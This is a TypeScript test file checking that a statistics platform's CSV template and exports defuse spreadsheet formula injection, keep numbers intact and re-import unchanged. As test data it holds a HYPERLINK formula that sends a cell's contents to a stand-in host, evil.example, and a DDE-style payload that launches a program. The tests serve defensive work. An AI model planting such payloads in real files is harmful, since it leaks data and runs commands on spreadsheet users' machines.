/**
 * Issue 8, finding 5: text an operator typed — a note `=HYPERLINK(…)`, a member code `-2+3` —
 * must reach no spreadsheet as a formula, in any CSV the product writes (import template,
 * exports), while numbers stay numbers and the import still reads the files back unchanged.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { sql } from 'drizzle-orm';
import { createTestApp, type TestApp } from '../../test-support/test-app.js';
import { commit, ORIGIN, upload } from './test-helpers.js';

const REGION = '72.71';
const NOTES = { P: '=HYPERLINK("https://evil.example/?d="&A1,"klik")', L: "@SUM(1+1)*cmd|' /C calc'!A0" };

describe('formulas in the CSV files the product writes', () => {
  let t: TestApp;
  let admin: string;
  before(async () => {
    t = await createTestApp();
    admin = await t.login('demo.admin');
  });
  after(() => t.close());

  const save = async (period: string, values: object[]) => {
    const res = await t.app.inject({
      method: 'PUT',
      url: `/api/regions/${REGION}/entry`,
      headers: { cookie: admin, origin: ORIGIN },
      payload: { period, values },
    });
    assert.equal(res.statusCode, 200, res.body);
  };
  const notes = async (indicator: string, period: string) => {
    const result = (await t.database.db.execute(
      sql`select sex, note, value::text as value from data_values
        where region_code = ${REGION} and indicator_code = ${indicator} and period = ${period} order by sex`,
    )) as unknown as { rows: { sex: string; note: string | null; value: string }[] };
    return result.rows;
  };

  test('a note typed as a formula is defused in the CSV template and imports back identical', async () => {
    await save('2019', [
      { indicatorCode: 'KES_UHH', sex: 'P', value: '71,5', note: NOTES.P },
      { indicatorCode: 'KES_UHH', sex: 'L', value: '-2,25', note: NOTES.L },
    ]);
    const res = await t.app.inject({
      url: `/api/regions/${REGION}/imports/template?period=2019&format=csv&indicators=KES_UHH`,
      headers: { cookie: admin },
    });
    assert.equal(res.statusCode, 200, res.body);
    const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
    assert.deepEqual(lines.slice(1, 3), [
      `KES_UHH;${REGION};2019;P;71,5;"'=HYPERLINK(""https://evil.example/?d=""&A1,""klik"")"`,
      `KES_UHH;${REGION};2019;L;-2,25;'@SUM(1+1)*cmd|' /C calc'!A0`,
    ]);
    // No cell of the file starts with a formula character.
    for (const line of lines) for (const cell of line.split(';')) assert.doesNotMatch(cell, /^"?[=+@\t\r]/);

    // Gone from the database, then back from the template: exactly as typed.
    await t.database.db.execute(
      sql`delete from data_values where region_code = ${REGION} and indicator_code = 'KES_UHH' and period = '2019'`,
    );
    const batch = await upload(t, admin, 'template.csv', res.rawPayload);
    assert.equal(batch.errorCount, 0, JSON.stringify(batch.errors.items));
    assert.equal((await commit(t, admin, batch.id)).status, 'committed');
    assert.deepEqual(await notes('KES_UHH', '2019'), [
      { sex: 'L', note: NOTES.L, value: '-2.25' },
      { sex: 'P', note: NOTES.P, value: '71.5' },
    ]);
    // And once more: the same file changes nothing.
    const again = await upload(t, admin, 'template.csv', res.rawPayload);
    assert.deepEqual(again.comparison, { new: 0, changed: 0, unchanged: 2, at: 'check' });
  });

  test('exports defuse member codes a spreadsheet would compute, keep negative numbers, import back', async () => {
    const created = async (url: string, payload: object) => {
      const res = await t.app.inject({ method: 'POST', url, headers: { cookie: admin }, payload });
      assert.equal(res.statusCode, 201, res.body);
    };
    await created('/api/dimension-sets', {
      code: 'selisih_uji',
      nameId: 'Selisih',
      nameEn: 'Difference',
      members: [
        { code: '-2+3', labelId: 'Turun', labelEn: 'Down' },
        { code: '+1', labelId: 'Naik', labelEn: 'Up' },
      ],
    });
    await created('/api/indicators', {
      code: 'PALU_SELISIH',
      nameId: 'Selisih indeks',
      nameEn: 'Index difference',
      unit: 'indeks',
      domainGroup: 'ekonomi_ketenagakerjaan',
      source: 'administrative',
      aggregation: 'none',
      dimensions: ['selisih_uji'],
    });
    await save('2019', [
      { indicatorCode: 'PALU_SELISIH', sex: 'P', members: { selisih_uji: '-2+3' }, value: '-1,25' },
      { indicatorCode: 'PALU_SELISIH', sex: 'L', members: { selisih_uji: '+1' }, value: '-7' },
    ]);
    const download = async (format: string) => {
      const res = await t.app.inject({
        url: `/api/values/export?region=${REGION}&indicator=PALU_SELISIH&format=${format}`,
        headers: { cookie: admin },
      });
      assert.equal(res.statusCode, 200, res.body);
      return res;
    };
    const csv = await download('csv');
    assert.deepEqual(
      csv.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
      [
        'indicator_code;region_code;period;sex;selisih_uji;value;status',
        `PALU_SELISIH;${REGION};2019;L;'+1;-7;draft`,
        `PALU_SELISIH;${REGION};2019;P;'-2+3;-1,25;draft`,
      ],
    );
    const sdmx = await download('sdmx-csv');
    assert.deepEqual(sdmx.body.trim().split('\r\n').slice(1), [
      `SETARA:DATA_TERPILAH(1.0),PALU_SELISIH,${REGION},2019,M,'+1,-7,U`,
      `SETARA:DATA_TERPILAH(1.0),PALU_SELISIH,${REGION},2019,F,'-2+3,-1.25,U`,
    ]);
    const batch = await upload(t, admin, 'export.csv', csv.rawPayload);
    assert.equal(batch.errorCount, 0, JSON.stringify(batch.errors.items));
    assert.deepEqual(batch.comparison, { new: 0, changed: 0, unchanged: 2, at: 'check' });
  });
});
